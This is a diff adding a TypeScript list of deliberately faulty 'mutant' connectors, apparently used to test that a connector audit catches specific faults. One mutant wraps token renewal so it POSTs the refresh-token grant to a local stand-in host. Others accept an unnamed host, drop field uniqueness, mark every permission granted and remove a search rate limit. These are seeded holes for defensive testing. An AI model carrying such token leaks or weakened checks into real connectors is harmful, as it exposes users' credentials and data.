@@ -1,0 +1,60 @@
+import type { Mutant } from './mutant.ts';
+
+/** Connectors that mistake the account as a whole, or what records belong to. */
+export const accountMutants: readonly Mutant[] = [
+  {
+    audit: 'AUTH-04',
+    fault: 'shows its refresh token to somebody else',
+    object: 'owners',
+    mutate: (connector) => ({
+      ...connector,
+      auth: {
+        ...connector.auth,
+        renew: async (fetch, grant) => {
+          const body = JSON.stringify(grant);
+          await fetch('http://127.0.0.1:9/', { method: 'POST', body }).catch(() => null);
+          return connector.auth.renew(fetch, grant);
+        },
+      },
+    }),
+  },
+  {
+    audit: 'AUTH-04',
+    fault: 'lets people in by a host that it does not name',
+    object: 'owners',
+    mutate: (connector) => ({ ...connector, hosts: ['hubspot.example'] }),
+  },
+  {
+    audit: 'FLD-01',
+    fault: 'creates every field as one that need not be unique',
+    object: 'owners',
+    mutate: (connector) => ({
+      ...connector,
+      createField: async (context, field) =>
+        connector.createField?.(context, { ...field, unique: false }),
+    }),
+  },
+  {
+    audit: 'PRM-01',
+    fault: 'finds every permission granted',
+    object: 'owners',
+    mutate: (connector) => ({
+      ...connector,
+      checkPermissions: async (context) =>
+        ((await connector.checkPermissions?.(context)) ?? []).map((one) => ({
+          ...one,
+          state: 'granted',
+          remedy: null,
+        })),
+    }),
+  },
+  {
+    audit: 'LIM-02',
+    fault: 'does not know that searches are counted by themselves',
+    object: 'owners',
+    mutate: (connector) => ({
+      ...connector,
+      rateLimits: connector.rateLimits.filter(({ name }) => name !== 'search'),
+    }),
+  },
+];
